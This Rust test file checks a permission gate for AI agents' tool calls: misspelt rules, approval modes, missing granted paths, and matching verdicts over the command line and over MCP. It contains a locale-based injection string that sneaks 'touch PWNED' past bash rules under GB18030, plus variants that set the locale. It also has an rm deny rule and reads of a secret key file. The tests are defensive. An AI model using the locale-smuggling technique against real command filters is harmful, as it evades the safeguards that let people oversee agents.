        assert!(denied.stderr.contains("the rule deny shell.run \"/bin/rm *\" (m.toml:1)"), "{denied:?}");
        assert!(env.workspace().join("kept").is_file());
        assert!(run(&["/bin/cat", "kept"]).status.success(), "the control");
    });
}

/// A rule that could never match is a mistake, at its line.
#[test]
fn a_misspelt_rule_is_refused() {
    let env = TestEnv::new(HERE);
    let binary = Binaries::of_this_build().callgate().display().to_string();
    for (permission, pattern, said) in [
        ("wirte", "*", "there is no tool `wirte`; there are: read, write"),
        ("fs.raed", "*", "there is no capability \"fs.raed\""),
        ("read", "../x", "pattern \"../x\""),
    ] {
        env.workspace_file("m.toml", &format!("id = \"x\"\n{}{GRANTS}", rule(permission, pattern, "deny")));
        let refused = env.weakened().run(&[&binary, "call", "--manifest", "m.toml", "read", "{\"path\": \"m.toml\"}"]);
        assert_eq!(refused.status.code(), Some(65), "{refused:?}");
        assert!(refused.stderr.contains(said) && refused.stderr.contains("m.toml:"), "{said}: {refused:?}");
    }
}

/// X3-1, X3-2: S3's approval modes have a mode each; `force` asks about nothing that a rule asks about.
#[test]
fn x3_1_x3_2_s3_s_approval_modes() {
    let env = TestEnv::new(HERE);
    let rules = rule("bash", "*", "ask");
    let line = json!({ "command": "echo x > made" });
    for mode in ["default", "ask", "auto-edit"] {
        let asked = call(&env, &rules, &["--mode", mode], "bash", &line);
        asked.assert_denied("person", "the rule ask bash \"*\" (m.toml:1)");
        assert!(!env.workspace().join("made").is_file(), "{mode}");
    }
    let edited = call(&env, &rules, &["--mode", "auto-edit"], "write", &write("kept"));
    edited.assert_done();
    assert_eq!(edited.envelope["metadata"]["decision"]["mode"], "auto-edit");
    // A mode decides what no rule does.
    let ruled = call(&env, &rule("fs.write", "kept", "ask"), &["--mode", "auto-edit"], "write", &write("kept"));
    ruled.assert_denied("person", "the rule ask fs.write");
    let named = call(&env, "mode = \"auto-edit\"\n", &[], "write", &write("kept"));
    assert_eq!(named.envelope["metadata"]["decision"]["mode"], "auto-edit");
    let unruled = call(&env, &rules, &["--mode", "default"], "write", &write("kept"));
    assert_eq!(unruled.envelope["metadata"]["decision"]["by"], "default");
    call(&env, &rules, &["--mode", "force"], "bash", &line).assert_done();
    assert!(env.workspace().join("made").is_file());
}

/// A granted path that is not there is told as that, and not as the host's fault.
#[test]
fn a_granted_tree_that_is_not_there_is_named() {
    matrix(Host::STRENGTHS, |target| {
        let env = TestEnv::new(target);
        let missing = env.outside().join("missing");
        env.workspace_file("m.toml", &format!("{GRANTS}read = [\"{}/**\"]\n", missing.display()));
        let binary = Binaries::of_this_build().callgate().display().to_string();
        let run = || env.weakened().run(&[&binary, "run", "--manifest", "m.toml", "--", "/bin/true"]);
        let refused = run();
        assert_eq!(refused.status.code(), Some(65), "{refused:?}");
        let said = format!("open {} for its rule", missing.display());
        assert!(refused.stderr.contains("a path that is granted is not there") && refused.stderr.contains(&said));
        fs::create_dir(&missing).unwrap();
        env.give(&missing);
        assert_eq!(run().status.code(), Some(0), "the control");
    });
}

/// C19: in a locale whose characters may end in a backslash, bash reads another command than the rules do. Neither the caller, nor a
/// manifest, nor a line of its own has a shell read so.
#[test]
fn c19_no_locale_has_bash_read_other_commands_than_rules_do() {
    // In UTF-8 all of it is one word in quotes.
    const LINE: &str = "echo \"\u{4e2d}\\\"; touch PWNED #\"";
    const LOCALE: &str = "zh_CN.GB18030";
    let locales = tempfile::tempdir().unwrap();
    fs::set_permissions(locales.path(), fs::Permissions::from_mode(0o755)).unwrap();
    let made = locales.path().join("zh_CN.gb18030");
    let mut localedef = std::process::Command::new("localedef");
    // It warns of what the charset lacks, by its status too.
    localedef.args(["-i", "zh_CN", "-f", "GB18030", "--no-archive", "--quiet"]).arg(&made);
    drop(localedef.output().unwrap());
    assert!(made.join("LC_CTYPE").is_file(), "the package `locales` is there");
    let path = locales.path().display().to_string();
    let rules = rule("bash", "touch *", "deny");
    let read = format!("read = [\"{path}/**\"]");
    matrix(Host::STRENGTHS, |target| {
        let env = TestEnv::new(target);
        let hit = env.workspace().join("PWNED");
        let bash = |more: &str, variables: &[(&str, &str)], command: &str| {
            env.workspace_file("m.toml", &format!("mode = \"yolo\"\n{more}\n{rules}{GRANTS}{read}\n"));
            let callgate = Binaries::of_this_build().callgate().display().to_string();
            let arguments = json!({ "command": command }).to_string();
            let run = variables.iter().fold(env.weakened(), |run, (name, value)| run.variable(name, value));
            let ended = run.run(&[&callgate, "call", "--manifest", "m.toml", "bash", &arguments]);
            assert!(!hit.exists(), "{command}: {ended:?}");
            ended
        };
        let bare = |line: &str| {
            let run = env.bare().variable("LOCPATH", &path).variable("LC_ALL", "").variable("LC_CTYPE", "");
            run.run(&["/bin/bash", "-c", line]);
            fs::remove_file(&hit).is_ok()
        };
        assert!(!bare(LINE), "the control: not without such a locale");

        // The caller's locale is another one inside.
        let caller = [("LOCPATH", path.as_str()), ("LC_ALL", LOCALE), ("LANG", LOCALE), ("LANGUAGE", "de:fr")];
        let ended = bash("", &caller, "echo \"$LOCPATH,$LC_ALL,$LANG,$LANGUAGE\"");
        assert!(ended.stdout.contains(",C.UTF-8,C.UTF-8,de:fr"), "{ended:?}");
        assert!(bash("", &caller, LINE).stdout.contains("touch PWNED #"), "the control: it is a word");
        // What a manifest says that does the same is an error, which names it.
        for (set, named) in [
            (format!("LOCPATH = {path:?}"), "LOCPATH="),
            (format!("LC_CTYPE = \"{LOCALE}\""), "LC_CTYPE=zh_CN.GB18030"),
            ("POSIXLY_CORRECT = \"1\"".to_owned(), "POSIXLY_CORRECT=1"),
        ] {
            let ended = bash(&format!("env.set = {{ {set} }}"), &[], LINE);
            let said = format!("{}{}", ended.stdout, ended.stderr);
            assert!(!ended.status.success() && said.contains(named) && said.contains("C.UTF-8"), "{set}: {ended:?}");
        }
        let passed = bash("env.pass = [\"LC_ALL\"]", &caller, LINE);
        assert!(
            passed.stdout.contains("LC_ALL=zh_CN.GB18030") || passed.stderr.contains("LC_ALL=zh_CN.GB18030"),
            "{passed:?}"
        );
        // A line that sets one is not understood, so that no rule takes it for what it seems to be.
        for set in [
            "export LC_ALL=LOCALE\nLINE",
            "LC_ALL=LOCALE\nLINE",
            "for LC_ALL in LOCALE; do :; done\nLINE",
            "printf -v LC_ALL %s LOCALE\nLINE",
            "f() { local LC_ALL=LOCALE; eval \"$1\"; }; f 'LINE'",
            "env LC_ALL=LOCALE bash -c 'LINE'",
            "bash -c 'LC_ALL=LOCALE\nLINE'",
        ] {
            let line = set.replace("LOCALE", LOCALE).replace("LINE", LINE);
            assert!(bare(&line), "the control: bash does, by {set}");
            let ended = bash("", &[], &line);
            assert_eq!(ended.status.code(), Some(77), "{set}: {ended:?}");
        }
        let nested = format!("env LOCPATH={path} LC_ALL={LOCALE} bash -c '{LINE}'");
        assert_eq!(bash("", &[], &nested).status.code(), Some(77));
        assert!(bare(&nested));
        // The control: those with UTF-8 are, and so is none.
        for fine in ["LC_ALL=C sort </dev/null", "export LC_ALL=C.UTF-8 LANG=de_DE.UTF-8; env -u LC_ALL true"] {
            let ended = bash("", &[], &format!("{fine}\n{LINE}"));
            assert!(ended.status.success() && ended.stdout.contains("touch PWNED"), "{fine}: {ended:?}");
        }
    });
}

/// S0-49: verdict and reason are the same on the command line and for a client of the Model Context Protocol. The rules are chosen
/// anew each time.
#[test]
fn s0_49_random_rules_hold_on_the_command_line_and_over_mcp() {
    let seed = u64::from(std::process::id()) << 20;
    let mut dice = Dice::new(seed);
    let calls = [
        ("read", json!({ "path": "secret/key" })),
        ("read", json!({ "path": "src/b.rs" })),
        ("grep", json!({ "pattern": "a", "path": "src" })),
        ("glob", json!({ "pattern": "*", "path": "secret" })),
        ("write", json!({ "path": "src/new.rs", "content": "x" })),
        ("edit", json!({ "path": "a", "old_string": "a", "new_string": "a" })),
        ("bash", json!({ "command": "git status; git push" })),
        ("bash", json!({ "command": "ls" })),
        ("bash", json!({ "command": "cat secret/key" })),
    ];
    let mut refused = 0;
    for _ in 0..6 {
        let rules = random_rules(&mut dice);
        let env = TestEnv::new(HERE);
        for directory in ["src", "secret"] {
            std::fs::create_dir(env.workspace().join(directory)).unwrap();
            env.give(&env.workspace().join(directory));
        }
        ["a", "src/b.rs", "secret/key"].iter().for_each(|file| drop(env.workspace_file(file, "a")));
        env.workspace_file("m.toml", &format!("{rules}{GRANTS}"));
        let mut client = StdioClient::stateful(&env, &["--manifest", "m.toml"], PersonAnswer::Nobody);
        for (tool, arguments) in &calls {
            let by_command = call(&env, &rules, &["--asked-by", "agent"], tool, arguments);
            let answer = client.call(tool, arguments.clone(), PersonAnswer::Nobody);
            // A client is told the manifest's whole path.
            let said = answer["result"]["content"][0]["text"].as_str().unwrap_or_default();
            let said = said.replace(&env.workspace().join("m.toml").display().to_string(), "m.toml");
            match by_command.envelope["metadata"]["denial"]["reason"].as_str() {
                Some(reason) => {
                    assert_eq!(answer["result"]["isError"], true, "seed {seed}\n{rules}\n{tool} {arguments}: {answer}");
                    assert!(said.contains(reason), "seed {seed}\n{rules}\n{tool} {arguments}: {reason}\n{said}");
                    refused += 1;
                }
                None => assert!(!said.contains(" is denied: "), "seed {seed}\n{rules}\n{tool} {arguments}: {said}"),
            }
        }
        client.close();
    }
    assert!(refused > 3, "seed {seed}: {refused}");
}
